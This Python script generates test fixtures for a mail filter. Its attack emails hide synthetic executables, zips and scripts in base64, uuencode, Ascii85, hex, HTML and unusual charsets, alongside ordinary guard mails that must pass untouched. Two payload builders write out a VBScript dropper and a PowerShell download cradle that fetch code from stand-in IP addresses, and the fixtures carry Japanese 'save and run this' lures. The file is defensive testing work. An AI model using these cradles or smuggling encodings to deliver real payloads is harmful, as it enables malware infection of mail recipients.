#!/usr/bin/env python3
"""Writes testdata/smuggle/: payloads smuggled as encoded text in mail bodies (issue 10,
class 4), and ordinary mails that must come through untouched (false-positive guards).

Python 3 standard library only, deterministic. Run from anywhere:

    python3 testdata/gen_smuggle.py

Every attack case carries a payload (PE, zip or script) with a unique token inside the
decoded data, and where the encoding allows it a second token that is literally visible in
the encoded text (`PAYLOADSnn...LIT....`), plus markers of the prose around the block.
Guard cases carry markers only (hashes, UUIDs, PGP armour lines, tracking-URL parameters)
and `max_removed = 0`: nothing may be cut from them.
"""

from __future__ import annotations

import base64
import hashlib
import math
import pathlib
import sys
import urllib.parse

HERE = pathlib.Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))
import generate as g  # noqa: E402  (shared MIME helpers and file formats)

OUT = HERE / "smuggle"
CASES = []


def case(name: str, eol: str = "crlf"):
    def deco(fn):
        CASES.append((name, eol, fn))
        return fn
    return deco


def h4(*parts) -> str:
    return hashlib.sha1("/".join(map(str, parts)).encode()).hexdigest()[:4]


def tok(nn: int, kind: str) -> str:
    return f"PAYLOAD-S{nn:02d}-{kind}-{h4(nn, kind)}"


def lit(nn: int, kind: str, mult: int = 4, ok=str.isalnum) -> str:
    s = f"PAYLOADS{nn:02d}{kind}LIT{h4('lit', nn, kind).upper()}"
    s = "".join(c if ok(c) else "X" for c in s)
    while len(s) % mult:
        s += "Q"
    return s


def mk(nn: int, what: str) -> str:
    return f"MARKER-S{nn:02d}-{what}"


# --------------------------------------------------------------------------------------------
# Payloads
# --------------------------------------------------------------------------------------------

def pe(t: str) -> bytes:
    return g.make_pe(t, 900)


def zipped(t: str) -> bytes:
    return g.make_zip([("setup.exe", g.make_pe(t, 600)), ("readme.txt", b"run setup.exe\r\n")])


def vbs(t: str) -> bytes:
    return (
        'Set sh = CreateObject("WScript.Shell")\r\n'
        f'sh.Run "cmd /c echo {t} > %TEMP%\\a.txt", 0\r\n'
        'Set x = CreateObject("MSXML2.XMLHTTP")\r\n'
        'x.Open "GET", "http://203.0.113.9/p.exe", False\r\n'
        "x.Send\r\n"
    ).encode()


def ps1(t: str) -> bytes:
    return (f"$t='{t}';IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a');"
            "Start-Process $env:TEMP\\a.exe").encode()


# --------------------------------------------------------------------------------------------
# Encoders that keep a literal token visible in the encoded text
# --------------------------------------------------------------------------------------------

TAIL = bytes(range(40, 120))


def b64_lines(data: bytes, literal: str, width: int | None, fill: bytes = b"\0") -> list[str]:
    """Base64 of data + decode(literal) + TAIL, wrapped at `width` with `literal` starting a
    line (so it is visible whole)."""
    unit = 3 if width is None else 3 * width // math.gcd(width, 4)
    head = data + fill * (-len(data) % unit)
    enc = base64.b64encode(head + base64.b64decode(literal) + TAIL).decode()
    assert literal in enc
    if width is None:
        return [enc]
    return [enc[i:i + width] for i in range(0, len(enc), width)]


def uu_lines(data: bytes, literal: str, name: str) -> list[str]:
    head = data + b"\0" * (-len(data) % 45)
    body = head + g.uu_bytes_for_text(literal) + b"\0" * 30 + TAIL
    lines = [x.decode() for x in g.uu_lines(body, name)]
    assert any(literal in x for x in lines)
    return lines[:-2]  # no "`" and no "end"


def a85_lines(data: bytes, literal: str) -> list[str]:
    head = data + b"\0" * (-len(data) % 4)
    lit_bytes = base64.a85decode(literal)
    assert base64.a85encode(lit_bytes).decode() == literal
    a = base64.a85encode(head).decode()
    b = literal + base64.a85encode(TAIL).decode()
    return [a[i:i + 75] for i in range(0, len(a), 75)] + [b[i:i + 75] for i in range(0, len(b), 75)]


def xxd_lines(data: bytes, literal16: str) -> list[str]:
    assert len(literal16) == 16
    body = data + b"\0" * (-len(data) % 16) + literal16.encode() + TAIL
    out = []
    for off in range(0, len(body), 16):
        row = body[off:off + 16]
        groups = " ".join(row[i:i + 2].hex() for i in range(0, len(row), 2))
        text = "".join(chr(b) if 32 <= b < 127 else "." for b in row)
        out.append(f"{off:08x}: {groups:<39}  {text}")
    assert any(literal16 in x for x in out)
    return out


# --------------------------------------------------------------------------------------------
# Mail builders
# --------------------------------------------------------------------------------------------

def plain_mail(nn, subject, body: bytes, charset="UTF-8", cte="8bit"):
    hdr = g.std_headers(nn, subject, extra=[f"Content-Type: text/plain; charset={charset}",
                                            f"Content-Transfer-Encoding: {cte}"])
    return g.part(hdr, body)


def prose(nn, block: str, intro="お疲れ様です。下記のデータを保存して実行してください。",
          outro="以上、よろしくお願いいたします。") -> tuple[str, list[str]]:
    text = f"{intro}\n{mk(nn, 'BEFORE')}\n\n{block}\n\n{mk(nn, 'AFTER')}\n{outro}\n"
    return text, [intro, mk(nn, "BEFORE"), mk(nn, "AFTER"), outro]


def attack(nn, subject, desc, block: str, payloads, **kw):
    text, markers = prose(nn, block)
    raw = plain_mail(nn, subject, text.encode())
    return raw, facts(desc, markers, payloads, subject=subject, **kw)


def facts(desc, markers, payloads, subject=None, min_removed=1, **extra):
    f = dict(description=desc, markers=markers, payloads=payloads, subject=subject, **extra)
    if payloads:
        f.update(min_removed=min_removed, changed=True)
    return f


def prefixed(lines, prefix, sep="\n", suffix=""):
    return sep.join(f"{prefix}{x}{suffix}" for x in lines)


# --------------------------------------------------------------------------------------------
# Attack cases: base64 shapes
# --------------------------------------------------------------------------------------------

def b64_case(nn, kind, maker, width, shape, desc, prefix="", sep="\n", suffix="", urlsafe=False):
    t, lt = tok(nn, kind), lit(nn, kind)
    lines = b64_lines(maker(t), lt, width)
    if urlsafe:
        lines = [x.replace("+", "-").replace("/", "_").rstrip("=") for x in lines]
    block = prefixed(lines, prefix, sep, suffix)
    return attack(nn, f"資料送付（{shape}）", desc, block, [t, lt])


@case("b64-one-long-line")
def c_one_line(nn):
    return b64_case(nn, "B64LONG", pe, None, "1行", "A PE as base64 on one long line")


@case("b64-39-columns")
def c_39(nn):
    return b64_case(nn, "B64COL39", pe, 39, "39桁", "A PE as base64 wrapped at 39 columns (below the old 40-column rule)")


@case("b64-indented")
def c_indent(nn):
    return b64_case(nn, "B64INDENT", zipped, 76, "字下げ", "A zip as base64 indented by four spaces", prefix="    ")


@case("b64-quoted")
def c_quoted(nn):
    return b64_case(nn, "B64QUOTE", pe, 76, "引用", "A PE as base64 quoted with '> '", prefix="> ")


@case("b64-nested-quote-vbs")
def c_nested(nn):
    return b64_case(nn, "B64VBS", vbs, 64, "二重引用", "A VBScript dropper as base64 quoted '> > '", prefix="> > ")


@case("b64-pipe-quoted")
def c_pipe(nn):
    return b64_case(nn, "B64PIPE", pe, 72, "パイプ引用", "A PE as base64 quoted with '| ' (chat style)", prefix="| ")


@case("b64-blank-lines")
def c_blank(nn):
    return b64_case(nn, "B64BLANK", pe, 60, "空行", "A PE as base64 with a blank line between every line", sep="\n\n")


@case("b64-trailing-spaces")
def c_trailing(nn):
    return b64_case(nn, "B64TRAIL", zipped, 64, "行末空白", "A zip as base64 with trailing spaces on every line", suffix="   ")


@case("b64-urlsafe")
def c_urlsafe(nn):
    return b64_case(nn, "B64URL", pe, 76, "URL安全", "A PE as unpadded URL-safe base64 (-_ alphabet)", urlsafe=True)


@case("b64-three-lines-powershell")
def c_three(nn):
    t, lt = tok(nn, "B64PS"), lit(nn, "B64PS")
    enc = base64.b64encode(base64.b64decode(lt) + ps1(t)).decode()
    lines = [enc[i:i + 76] for i in range(0, len(enc), 76)]
    assert len(lines) == 3 and enc.startswith(lt)
    return attack(nn, "資料送付（3行）", "A PowerShell download cradle as base64 in only a few lines",
                  "\n".join(lines), [t, lt])


@case("b64-selfextracting-zip")
def c_selfx(nn):
    t, lt = tok(nn, "B64SFX"), lit(nn, "B64SFX")
    data = b"Self-extracting archive. Save as setup.exe and run it.\r\n" * 12 + zipped(t)
    block = "\n".join(b64_lines(data, lt, 76))
    return attack(nn, "資料送付（自己解凍）", "base64 of a zip behind a text prefix (decoded data starts text-like)",
                  block, [t, lt])


@case("b64-vbs-text-dropper")
def c_vbs(nn):
    t, lt = tok(nn, "B64VBSTXT"), lit(nn, "B64VBSTXT")
    block = "\n".join(b64_lines(vbs(t) * 3, lt, 76, fill=b" "))
    return attack(nn, "資料送付（スクリプト）", "base64 of a VBScript dropper: the decoded data is plain text", block, [t, lt])


@case("b64-inside-sentence")
def c_sentence(nn):
    t, lt = tok(nn, "B64SENT"), lit(nn, "B64SENT")
    line = b64_lines(pe(t), lt, None)[0]
    return attack(nn, "資料送付（文中）", "A PE as one base64 run inside a sentence",
                  f"データはこちらです: {line} （コピーして使ってください）", [t, lt])


@case("b64-spaced-groups")
def c_groups(nn):
    t, lt = tok(nn, "B64GROUP"), lit(nn, "B64GROUP")
    lines = b64_lines(pe(t), lt, 64)
    block = "\n".join(" ".join(x[i:i + 8] for i in range(0, len(x), 8)) for x in lines)
    return attack(nn, "資料送付（8文字区切り）", "A PE as base64 written in groups of 8 separated by spaces",
                  block, [t])


@case("b64-shifted-by-junk")
def c_shift(nn):
    t, lt = tok(nn, "B64SHIFT"), lit(nn, "B64SHIFT")
    lines = b64_lines(zipped(t), lt, 36)
    block = "\n".join(["xQ" + lines[0]] + lines[1:])
    return attack(nn, "資料送付（先頭2文字を削除）",
                  "base64 of a zip at 36 columns behind two junk characters (\"delete the first two letters\")",
                  block, [t, lt])


@case("b64-zero-width-spaces")
def c_zwsp(nn):
    t = tok(nn, "B64ZWSP")
    enc = base64.b64encode(pe(t)).decode()
    lines = ["\u200b".join(enc[i:i + 76][j:j + 4] for j in range(0, 76, 4)) for i in range(0, len(enc), 76)]
    return attack(nn, "資料送付（ゼロ幅スペース）", "A PE as base64 with a zero-width space after every 4 characters",
                  "\n".join(lines), [t])


# --------------------------------------------------------------------------------------------
# Attack cases: uuencode, Ascii85, hex
# --------------------------------------------------------------------------------------------

@case("uu-without-end")
def c_uu(nn):
    t, lt = tok(nn, "UUNOEND"), lit(nn, "UUNOEND", ok=lambda c: 32 < ord(c) < 96)
    block = "\n".join(uu_lines(pe(t), lt, "tool.exe"))
    return attack(nn, "ツール（uuencode）", "uuencode without the closing '`' and 'end' lines", block, [t, lt])


@case("uu-quoted-without-end")
def c_uu_q(nn):
    t, lt = tok(nn, "UUQUOTE"), lit(nn, "UUQUOTE", ok=lambda c: 32 < ord(c) < 96)
    block = prefixed(uu_lines(zipped(t), lt, "tool.zip"), "> ")
    return attack(nn, "ツール（引用uuencode）", "uuencode quoted with '> ', without 'end'", block, [t, lt])


@case("ascii85")
def c_a85(nn):
    t, lt = tok(nn, "A85"), lit(nn, "A85", mult=5)
    block = "<~" + "\n".join(a85_lines(pe(t), lt)) + "~>"
    return attack(nn, "データ（Ascii85）", "A PE as Ascii85 between <~ and ~>", block, [t, lt])


@case("ascii85-unclosed")
def c_a85_open(nn):
    t, lt = tok(nn, "A85OPEN"), lit(nn, "A85OPEN", mult=5)
    block = "<~" + "\n".join(a85_lines(zipped(t), lt))
    return attack(nn, "データ（Ascii85続き）", "A zip as Ascii85 opened with <~ but never closed", block, [t, lt])


@case("xxd-dump")
def c_xxd(nn):
    t = tok(nn, "XXD")
    lt = f"PAYLOADS{nn:02d}XXD{h4('x', nn).upper()}"[:16].ljust(16, "Q")
    block = "\n".join(xxd_lines(pe(t), lt))
    return attack(nn, "ダンプ（xxd）", "An xxd hex dump of a PE (the ASCII column shows a literal token)", block, [t, lt])


@case("hex-run")
def c_hex(nn):
    t = tok(nn, "HEXRUN")
    h = zipped(t).hex()
    block = "\n".join(h[i:i + 32] for i in range(0, len(h), 32))
    return attack(nn, "ダンプ（16進）", "A zip as plain hex digits, 32 per line (xxd -p -c16)", block, [t])


@case("hex-c-array")
def c_carray(nn):
    t = tok(nn, "HEXARR")
    data = pe(t)
    rows = [", ".join(f"0x{b:02x}" for b in data[i:i + 12]) + "," for i in range(0, len(data), 12)]
    block = "unsigned char buf[] = {\n" + prefixed(rows, "    ") + "\n};"
    return attack(nn, "ダンプ（C配列）", "A PE as a C byte array (0x4d, 0x5a, ...)", block, [t])


@case("qp-escaped")
def c_qp(nn):
    t = tok(nn, "QPESC")
    block = g.qp(pe(t)).decode().rstrip("\n")
    assert t in block.replace("=\n", "")
    return attack(nn, "データ（QP）", "A PE as quoted-printable text pasted into the body (printable bytes stay literal)",
                  block, [t])


@case("url-escaped")
def c_pct(nn):
    t = tok(nn, "URLESC")
    enc = urllib.parse.quote(zipped(t), safe="")
    block = "\n".join(enc[i:i + 90] for i in range(0, len(enc), 90))
    return attack(nn, "データ（URLエンコード）", "A zip as %XX URL escapes, 90 characters per line", block, [t])


# --------------------------------------------------------------------------------------------
# Attack cases: other carriers (HTML, charsets, forwarded headers)
# --------------------------------------------------------------------------------------------

def html_mail(nn, subject, markup):
    hdr = g.std_headers(nn, subject, extra=["Content-Type: text/html; charset=UTF-8",
                                            "Content-Transfer-Encoding: quoted-printable"])
    return g.part(hdr, g.qp(markup.encode()))


@case("html-div-split")
def c_div(nn):
    t, lt = tok(nn, "HTMLDIV"), lit(nn, "HTMLDIV")
    lines = b64_lines(pe(t), lt, 76)
    markup = (f"<html><body><p>添付の代わりに本文に貼ります。</p><p>{mk(nn, 'BEFORE')}</p>"
              + "".join(f"<div>{x}</div>" for x in lines)
              + f"<p>{mk(nn, 'AFTER')}</p><p>よろしくお願いします。</p></body></html>")
    subject = "HTML（div分割）"
    return html_mail(nn, subject, markup), facts(
        "base64 of a PE split into <div> elements of an HTML body",
        ["添付の代わりに本文に貼ります", mk(nn, "BEFORE"), mk(nn, "AFTER")], [t, lt], subject=subject)


@case("html-br-split")
def c_br(nn):
    t, lt = tok(nn, "HTMLBR"), lit(nn, "HTMLBR")
    lines = b64_lines(zipped(t), lt, 64)
    markup = (f"<html><body><p>{mk(nn, 'BEFORE')}</p><p>"
              + "<br>\n".join(lines)
              + f"</p><p>{mk(nn, 'AFTER')}</p></body></html>")
    subject = "HTML（br分割）"
    return html_mail(nn, subject, markup), facts(
        "base64 of a zip split by <br> in an HTML paragraph", [mk(nn, "BEFORE"), mk(nn, "AFTER")],
        [t, lt], subject=subject)


@case("utf16-body")
def c_utf16(nn):
    t, lt = tok(nn, "UTF16"), lit(nn, "UTF16")
    text, markers = prose(nn, "\n".join(b64_lines(pe(t), lt, 76)))
    raw = plain_mail(nn, "UTF-16本文", g.b64(text.encode("utf-16")), charset="utf-16", cte="base64")
    return raw, facts("A UTF-16 (with BOM) body holding a base64 PE: invisible in the raw bytes",
                      markers, [t, lt], subject="UTF-16本文")


@case("utf7-body")
def c_utf7(nn):
    t, lt = tok(nn, "UTF7"), lit(nn, "UTF7")
    text, markers = prose(nn, "\n".join(b64_lines(pe(t), lt, 76)))
    raw = plain_mail(nn, "UTF-7本文", text.encode("utf-7"), charset="utf-7", cte="7bit")
    return raw, facts("A UTF-7 body (Japanese prose in +...- runs, '+' as '+-') holding a base64 PE",
                      markers, [t, lt], subject="UTF-7本文")


@case("iso2022jp-esc-j-lines")
def c_jis_roman(nn):
    t, lt = tok(nn, "JISROMAN"), lit(nn, "JISROMAN")
    lines = b64_lines(pe(t), lt, 76)
    intro, outro = "お疲れ様です。下記をデコードしてください。", "以上です。"
    body = intro.encode("iso-2022-jp") + f"\n{mk(nn, 'BEFORE')}\n\n".encode()
    body += b"".join(b"\x1b(J" + x.encode() + b"\x1b(B\n" for x in lines)
    body += f"\n{mk(nn, 'AFTER')}\n".encode() + outro.encode("iso-2022-jp") + b"\n"
    subject = "JIS（ESC ( J）"
    raw = plain_mail(nn, subject, body, charset="ISO-2022-JP", cte="7bit")
    return raw, facts("ISO-2022-JP body whose base64 lines are each switched to JIS X 0201 Roman (ESC ( J)",
                      [intro, mk(nn, "BEFORE"), mk(nn, "AFTER"), outro], [t, lt], subject=subject)


@case("forward-header-subject")
def c_fwd(nn):
    t, lt = tok(nn, "FWDHDR"), lit(nn, "FWDHDR")
    enc = b64_lines(g.make_pe(t, 560), lt, 76)
    inner_hdr = ["From: \"Partner\" <partner@example.net>", "To: <somu@city.example.lg.jp>",
                 "Subject: data " + "\n ".join(enc), "Date: Tue, 07 May 2024 10:00:00 +0900",
                 "Message-ID: <inner-smuggle@example.net>", "MIME-Version: 1.0",
                 "Content-Type: text/plain; charset=UTF-8", "Content-Transfer-Encoding: 8bit"]
    inner = g.part(inner_hdr, f"転送元の本文です。\n{mk(nn, 'INNER')}\n".encode())
    outer_text = g.text_part(f"転送します。\n{mk(nn, 'OUTER')}\n")
    body = g.multipart("=_fwd_smuggle", [outer_text, g.part(["Content-Type: message/rfc822"], inner)])
    subject = "Fw: data"
    hdr = g.std_headers(nn, subject, extra=['Content-Type: multipart/mixed; boundary="=_fwd_smuggle"'])
    return g.part(hdr, body), facts(
        "A forwarded message whose Subject (folded over many lines) is base64 of a PE",
        ["転送します", mk(nn, "OUTER"), "転送元の本文です", mk(nn, "INNER")], [t, lt], subject=subject)


@case("html-table-rows")
def c_table(nn):
    t, lt = tok(nn, "HTMLTABLE"), lit(nn, "HTMLTABLE")
    lines = b64_lines(pe(t), lt, 60)
    rows = "".join(f"<tr><td>{i + 1}</td><td>{x}</td></tr>" for i, x in enumerate(lines))
    markup = (f"<html><body><p>{mk(nn, 'BEFORE')}</p><table border=\"1\">{rows}</table>"
              f"<p>{mk(nn, 'AFTER')}</p></body></html>")
    subject = "HTML（表）"
    return html_mail(nn, subject, markup), facts(
        "base64 of a PE in the rows of a numbered HTML table (rendered with box-drawing borders)",
        [mk(nn, "BEFORE"), mk(nn, "AFTER")], [t, lt], subject=subject)


@case("html-list-items")
def c_list(nn):
    t, lt = tok(nn, "HTMLLIST"), lit(nn, "HTMLLIST")
    lines = b64_lines(zipped(t), lt, 64)
    markup = (f"<html><body><p>{mk(nn, 'BEFORE')}</p><ol>"
              + "".join(f"<li>{x}</li>" for x in lines)
              + f"</ol><p>{mk(nn, 'AFTER')}</p></body></html>")
    subject = "HTML（番号付きリスト）"
    return html_mail(nn, subject, markup), facts(
        "base64 of a zip as the items of an ordered HTML list", [mk(nn, "BEFORE"), mk(nn, "AFTER")],
        [t, lt], subject=subject)


# --------------------------------------------------------------------------------------------
# False-positive guards: nothing may be cut
# --------------------------------------------------------------------------------------------

def guard(nn, subject, desc, text, markers, charset="UTF-8"):
    raw = plain_mail(nn, subject, text.encode(charset) if charset != "UTF-8" else text.encode())
    return raw, dict(description=desc, markers=markers, payloads=[], subject=subject, max_removed=0)


def prng_bytes(seed: str, n: int) -> bytes:
    out = b""
    i = 0
    while len(out) < n:
        out += hashlib.sha256(f"{seed}/{i}".encode()).digest()
        i += 1
    return out[:n]


TRACK = ("https://click.example-mail.jp/ls/click?upn=" + base64.urlsafe_b64encode(
    b"https://www.city.example.lg.jp/kurashi/gomi/2024/11/bunbetsu.html?utm_source=mail&utm_medium=news"
    b"&utm_campaign=202411&uid=5f2b9c1e7d3a").decode().rstrip("=") + "&sig=Zk9vQmFyQmF6MTIzNDU2Nzg5MA")


@case("guard-prose-urls")
def f_prose(nn):
    text = (
        "各位\n\nお世話になっております。総務課の山田です。\n"
        "来週の防災訓練について、下記のとおりご案内いたします。\n\n"
        "　日時：2024年12月5日（木）10:00〜11:30\n　場所：第二庁舎 3階 大会議室\n\n"
        "詳細は次のページをご覧ください。\n"
        f"{TRACK}\n"
        "https://www.city.example.lg.jp/bosai/kunren/2024/index.html?from=mail&lang=ja&ref=AbCdEfGhIjKlMnOpQrStUvWxYz0123456789\n\n"
        "Please find the English summary below. The drill starts at 10:00 and ends at 11:30; "
        "participants should bring their ID cards. Thank you for your cooperation.\n\n"
        "--\n総務課 山田 太郎\nTEL 03-1234-5678 / FAX 03-1234-5679\n"
    ) * 3
    q = TRACK.split("upn=")[1][:28]
    return guard(nn, "防災訓練のご案内", "Japanese and English prose with long tracking links: nothing is cut", text,
                 ["防災訓練について", "第二庁舎 3階 大会議室", q, "Thank you for your cooperation"])


@case("guard-pgp-signed")
def f_pgp(nn):
    sig = base64.b64encode(b"\x89\x02\x33\x04\x01\x01\x08\x00\x1d" + prng_bytes("sig", 550)).decode()
    key = base64.b64encode(b"\x99\x02\x0d\x04" + prng_bytes("key", 3200)).decode()
    wrap = lambda s: "\n".join(s[i:i + 64] for i in range(0, len(s), 64))  # noqa: E731
    text = (
        "-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA256\n\n"
        "情報政策課です。公開鍵を更新しましたのでお知らせします。\n"
        "Fingerprint: 3A4F 9C1B 77D2 0E65 A1B8  C4D3 92F0 6E7A 1B2C 3D4E\n"
        "-----BEGIN PGP SIGNATURE-----\n\n" + wrap(sig) + "\n=Xq3R\n-----END PGP SIGNATURE-----\n\n"
        "-----BEGIN PGP PUBLIC KEY BLOCK-----\n\n" + wrap(key) + "\n=a1B2\n-----END PGP PUBLIC KEY BLOCK-----\n"
    )
    return guard(nn, "公開鍵の更新", "A clearsigned message with a PGP signature and a 3 KB public key block",
                 text, ["公開鍵を更新しました", sig[:40], key[64:104], key[-40:]])


@case("guard-hashes-uuids")
def f_hashes(nn):
    rows = []
    for i in range(40):
        hh = hashlib.sha256(f"ioc{i}".encode()).hexdigest()
        rows.append(f"{hh}  sample{i:02d}.bin")
    uu = [f"{hashlib.md5(f'u{i}'.encode()).hexdigest()}" for i in range(10)]
    uuids = [f"{x[:8]}-{x[8:12]}-4{x[13:16]}-a{x[17:20]}-{x[20:32]}" for x in uu]
    git = [hashlib.sha1(f"c{i}".encode()).hexdigest() for i in range(10)]
    text = ("セキュリティ情報の共有です。以下のハッシュ値に該当するファイルを検知した場合はご連絡ください。\n\n"
            + "\n".join(rows) + "\n\n管理番号:\n" + "\n".join(uuids)
            + "\n\n修正コミット:\n" + "\n".join(git) + "\n")
    return guard(nn, "IOC共有", "A CSIRT notice listing 40 SHA-256 hashes, UUIDs and git ids: nothing is cut",
                 text, ["ハッシュ値に該当するファイル", rows[0][:64], rows[39][:64], uuids[3], git[7]])


@case("guard-html-tracking")
def f_html(nn):
    links = "".join(
        f'<tr><td><a href="{TRACK}&n={i}">お知らせ{i}</a></td><td>https://www.city.example.lg.jp/news/{i}?k='
        f'{base64.urlsafe_b64encode(prng_bytes(f"k{i}", 60)).decode()}</td></tr>' for i in range(8))
    markup = (f"<html><body><h1>市政だより 12月号</h1><p>{mk(nn, 'TOP')}</p>"
              f"<table>{links}</table><p>配信停止は<a href=\"{TRACK}&unsub=1\">こちら</a></p></body></html>")
    subject = "市政だより"
    raw = html_mail(nn, subject, markup)
    return raw, dict(description="HTML newsletter with long tracking links and tokens in URLs: nothing is cut",
                     markers=["市政だより 12月号", mk(nn, "TOP"), "配信停止は"], payloads=[], subject=subject,
                     max_removed=0)


@case("guard-dkim-pem")
def f_dkim(nn):
    b = base64.b64encode(prng_bytes("dkim", 256)).decode()
    bh = base64.b64encode(prng_bytes("bh", 32)).decode()
    pem = base64.b64encode(b"\x30\x82\x01\x22" + prng_bytes("pem", 290)).decode()
    folded = "\n\t ".join(b[i:i + 70] for i in range(0, len(b), 70))
    text = (
        "情報システム課様\n\n不審なメールのヘッダを貼り付けます。ご確認ください。\n\n"
        "DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=example.co.jp; s=sel2024;\n"
        f"\tt=1733000000; bh={bh};\n\th=From:To:Subject:Date:Message-ID;\n\tb={folded}\n"
        "Authentication-Results: mx1.city.example.lg.jp; dkim=pass header.d=example.co.jp\n\n"
        "公開鍵は以下です。\n-----BEGIN PUBLIC KEY-----\n"
        + "\n".join(pem[i:i + 64] for i in range(0, len(pem), 64)) + "\n-----END PUBLIC KEY-----\n"
    )
    return guard(nn, "不審メールのヘッダ", "Pasted mail headers with a DKIM signature, and a PEM public key",
                 text, ["不審なメールのヘッダを貼り付けます", bh, b[:40], pem[64:100]])


@case("guard-tables-codes-jwt")
def f_tables(nn):
    csv = "\n".join(f"{1000 + i},{i * 37 % 100:02d},{(i * 53) % 97:02d},ABCD{i:04d}EFGH{i * 7:04d}" for i in range(120))
    jwt = ".".join(base64.urlsafe_b64encode(x).decode().rstrip("=") for x in (
        b'{"alg":"HS256","typ":"JWT"}',
        b'{"sub":"city-portal","name":"Yamada Taro","iat":1733000000,"scope":"read write admin"}',
        prng_bytes("jwt", 32)))
    note = base64.b64encode("これは base64 で書かれた普通の日本語の文章です。実行できるものではありません。".encode()).decode()
    text = ("予算集計表を送ります。\n\n年度,課,係,管理コード\n" + csv
            + f"\n\nAPIトークン: {jwt}\n\n参考（base64 の文章）: {note}\n")
    return guard(nn, "予算集計", "CSV of numbers and codes, a JWT, base64 of ordinary Japanese text: nothing is cut",
                 text, ["予算集計表を送ります", "1119,03", jwt[:40], note[:40]])


@case("guard-quoted-reply")
def f_reply(nn):
    quoted = "\n".join(f"> {x}" for x in [
        "山田様", "", "お世話になっております。", "=" * 60, "ご依頼の件、承知いたしました。",
        "-" * 60, "ORDER-2024-11-0001-ABCDEFGHIJ", "ORDER-2024-11-0002-KLMNOPQRST", "*" * 60,
        "Regards", "Suzuki"])
    text = f"鈴木様\n\nご返信ありがとうございます。\n\n{quoted}\n> > 前回のメール本文です。\n"
    return guard(nn, "Re: ご依頼の件", "A quoted reply with separators and order numbers: nothing is cut", text,
                 ["ご返信ありがとうございます", "ORDER-2024-11-0001-ABCDEFGHIJ", "=" * 60, "前回のメール本文です"])


# --------------------------------------------------------------------------------------------
# Output
# --------------------------------------------------------------------------------------------

def toml_value(v):
    if isinstance(v, bool):
        return "true" if v else "false"
    if isinstance(v, int):
        return str(v)
    return g.toml_str(v)


def facts_toml(f: dict) -> str:
    lines = [f"description = {g.toml_str(f['description'])}"]
    for key in ("markers", "listed", "payloads", "absent"):
        vals = f.get(key) or []
        if vals:
            lines.append(f"{key} = [")
            lines += [f"  {g.toml_str(v)}," for v in vals]
            lines.append("]")
    for key in ("subject", "min_removed", "max_removed", "changed"):
        if f.get(key) is not None:
            lines.append(f"{key} = {toml_value(f[key])}")
    return "\n".join(lines) + "\n"


def write_readme():
    rows = []
    for idx, (name, _, fn) in enumerate(CASES, 1):
        _, f = fn(idx)
        rows.append(f"| `{idx:02d}-{name}.eml` | {'guard' if name.startswith('guard-') else 'attack'} | "
                    f"{f['description']} |")
    text = (
        "# testdata/smuggle: payloads smuggled as encoded text\n\n"
        "Generated by `python3 testdata/gen_smuggle.py` (standard library only, deterministic; edit the\n"
        "generator, not the files). Attack cases hide a PE, zip or script in the text a reader sees\n"
        "(base64 of every shape, uuencode without `end`, Ascii85, hex dumps, HTML-split blocks, UTF-16\n"
        "and ISO-2022-JP bodies, forwarded header fields). Each has a token inside the decoded data and,\n"
        "where the encoding allows it, a token literally visible in the encoded text; tests/corpus.rs\n"
        "checks that no way of decoding the output (tests/common/attacker.rs) reveals either. Guard\n"
        "cases are ordinary mails that look a little like encoded data (PGP armour, hash lists, DKIM,\n"
        "tracking links, CSV, JWT): their markers must survive and `max_removed = 0`.\n\n"
        "| file | kind | what it tests |\n|---|---|---|\n" + "\n".join(rows) + "\n"
    )
    (OUT / "README.md").write_text(text, encoding="utf-8")


def main():
    OUT.mkdir(parents=True, exist_ok=True)
    for old in OUT.glob("*"):
        if old.suffix in (".eml", ".toml"):
            old.unlink()
    for idx, (name, eol, fn) in enumerate(CASES, 1):
        stem = f"{idx:02d}-{name}"
        raw, f = fn(idx)
        raw = g.finalize(raw, eol)
        for m in f.get("markers", []):
            assert len(m) >= 4, (stem, m)
        (OUT / f"{stem}.eml").write_bytes(raw)
        (OUT / f"{stem}.toml").write_text(facts_toml(f), encoding="utf-8")
    write_readme()
    attacks = sum(1 for n, _, _ in CASES if not n.startswith("guard-"))
    print(f"{len(CASES)} cases ({attacks} attacks, {len(CASES) - attacks} guards) in {OUT}")


if __name__ == "__main__":
    main()
